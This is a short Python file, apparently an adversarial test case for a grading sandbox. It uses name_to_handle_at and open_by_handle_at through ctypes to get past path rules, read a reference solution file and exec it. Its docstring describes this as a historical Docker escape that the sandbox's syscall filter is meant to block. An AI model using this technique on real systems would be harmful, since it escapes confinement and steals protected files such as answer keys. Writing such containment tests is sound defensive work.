"""Steals: turns the reference's path into a file handle and opens that (how root left Docker once).

Fails because open_by_handle_at, which goes past every path rule, is not among the allowed system calls.
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


def _check(value):
    if value < 0:
        raise OSError(ctypes.get_errno(), "by handle")
    return value


_handle, _mount = Handle(128, 0), ctypes.c_int()
_path = b"/work/main/solutions/assignment3/reference/pooling.py"
_check(libc.name_to_handle_at(-100, _path, ctypes.byref(_handle), ctypes.byref(_mount), 0))
_root = _check(libc.open(b"/usr", os.O_RDONLY | os.O_DIRECTORY))
exec(os.read(_check(libc.open_by_handle_at(_root, ctypes.byref(_handle), os.O_RDONLY)), 1 << 20))
